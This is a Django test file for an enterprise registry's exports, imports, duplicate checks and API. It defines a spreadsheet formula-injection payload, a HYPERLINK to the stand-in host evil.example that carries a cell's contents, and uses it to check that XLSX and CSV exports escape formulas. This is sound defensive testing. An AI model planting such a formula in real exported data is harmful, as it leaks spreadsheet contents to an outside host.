"""Safety nets found in review: spreadsheet formula injection, duplicates entered at the same moment,
import progress while writing, oversized downloads, key columns never cut short, API ordering."""

from __future__ import annotations

import io

from django.core.cache import cache
from openpyxl import load_workbook

from core import exports
from enterprises import duplicates
from enterprises.imports.files import csv_bytes
from enterprises.models import DuplicateSuspect, Enterprise, ImportJob, ImportStatus
from enterprises.tasks import reflag_duplicates
from tests.enterprises.factories import EnterpriseFactory
from tests.enterprises.test_imports import as_csv, enterprise_row, run

FORMULA = '=HYPERLINK("http://evil.example/?"&C2,"open")'


def test_xlsx_export_never_writes_a_formula(client, pmu, sp_one):
    EnterpriseFactory(sub_project=sp_one, name=FORMULA)
    client.force_login(pmu)

    response = client.get("/enterprises/", {"export": "xlsx"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [
        cell for row in sheet.iter_rows() for cell in row if cell.value and "HYPERLINK" in str(cell.value)
    ]
    assert [cell.value for cell in cells] == ["'" + FORMULA]
    assert all(cell.data_type == "s" for cell in cells)


def test_csv_export_and_the_import_error_report_escape_formulas(client, pmu, sp_one):
    EnterpriseFactory(sub_project=sp_one, name=FORMULA)
    client.force_login(pmu)

    exported = b"".join(client.get("/enterprises/", {"export": "csv"}).streaming_content).decode("utf-8-sig")
    report = csv_bytes(["row", "column", "problem"], [[2, "phone", FORMULA]]).decode("utf-8-sig")

    assert f"'{FORMULA}".replace('"', '""') in exported
    assert "'=HYPERLINK" in report


def test_a_duplicate_entered_by_another_po_at_the_same_moment_is_caught_after_commit(sp_one, sp_two):
    first = EnterpriseFactory(sub_project=sp_one, phone="+8801711000001")
    # The second PO's row was written while the first one's transaction had not committed yet, so
    # its own check found nothing; the re-check queued for after its commit finds the pair.
    second = EnterpriseFactory(sub_project=sp_two, phone="+8801711000001")
    assert not DuplicateSuspect.objects.exists()

    reflag_duplicates([second.pk])

    suspect = DuplicateSuspect.objects.get()
    assert {suspect.enterprise_id, suspect.matched_enterprise_id} == {first.pk, second.pk}


def test_entering_an_enterprise_queues_the_recheck(sp_one, po1, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks() as callbacks:
        duplicates.recheck_after_commit([1, 2, 2])

    assert len(callbacks) == 1


def test_import_progress_is_visible_while_rows_are_written(client, po1, po_one):
    job = ImportJob.objects.create(
        kind="enterprises",
        partner_organization=po_one,
        created_by=po1,
        file_format="csv",
        original_name="mes.csv",
        status=ImportStatus.COMMITTING,
        phase="writing",
        rows_total=10_000,
    )
    cache.set(job.progress_cache_key, ("writing", 4_000, 10_000))
    client.force_login(po1)

    fragment = client.get(f"/field-data/imports/{job.pk}/progress/").content.decode()
    api = client.get(f"/api/v1/import-jobs/{job.pk}/").json()

    assert "40%" in fragment
    assert "4,000 of about 10,000 rows" in fragment
    assert (api["rows_done"], api["progress_percent"]) == (4_000, 40)


def test_an_oversized_download_is_refused_with_a_message(client, pmu, sp_one, monkeypatch):
    for _index in range(3):
        EnterpriseFactory(sub_project=sp_one)
    monkeypatch.setitem(exports.EXPORT_LIMITS, "xlsx", 2)
    client.force_login(pmu)

    response = client.get("/enterprises/", {"export": "xlsx", "district": "BD3048"}, follow=True)

    page = response.content.decode()
    assert response.redirect_chain[0][0] == "/enterprises/?district=BD3048"
    assert "This list has 3 rows; a XLSX download holds at most 2" in page


def test_a_code_longer_than_its_column_is_an_error_not_cut_short(sp_one, po_one, po1):
    row = enterprise_row(1, sp_one, po_code="ME-" + "7" * 45)

    report = run("enterprises", as_csv([row]), po_one, po1)

    assert not report.committed
    assert [(error.column, error.message) for error in report.errors] == [
        ("po_code", "At most 40 characters (this one has 48).")
    ]
    assert not Enterprise.objects.exists()


def test_api_orders_enterprises_like_the_page(api, pmu, sp_one):
    for code in ("ME-3", "ME-1", "ME-2"):
        EnterpriseFactory(sub_project=sp_one, po_code=code)
    api.as_user(pmu)

    by_code = api.get("/api/v1/enterprises/", {"ordering": "code"}).json()["results"]
    newest_first = api.get("/api/v1/enterprises/").json()["results"]
    refused = api.get("/api/v1/enterprises/", {"ordering": "po_code"})

    assert [row["po_code"] for row in by_code] == ["ME-1", "ME-2", "ME-3"]
    assert [row["po_code"] for row in newest_first] == ["ME-2", "ME-1", "ME-3"]
    assert refused.status_code == 400


def test_moving_an_enterprise_to_another_district_brings_its_division(api, po1, me_one):
    response = api.as_user(po1).patch(
        f"/api/v1/enterprises/{me_one.pk}/", {"district": "BD4001", "upazila": "BD40010008"}
    )

    assert response.status_code == 200, response.json()
    me_one.refresh_from_db()
    assert (me_one.district.name, me_one.division.name) == ("Bagerhat", "Khulna")


def test_formula_text_is_stored_as_typed(sp_one):
    me = EnterpriseFactory(sub_project=sp_one, name=FORMULA)

    assert Enterprise.objects.get(pk=me.pk).name == FORMULA  # escaping happens on the way out only
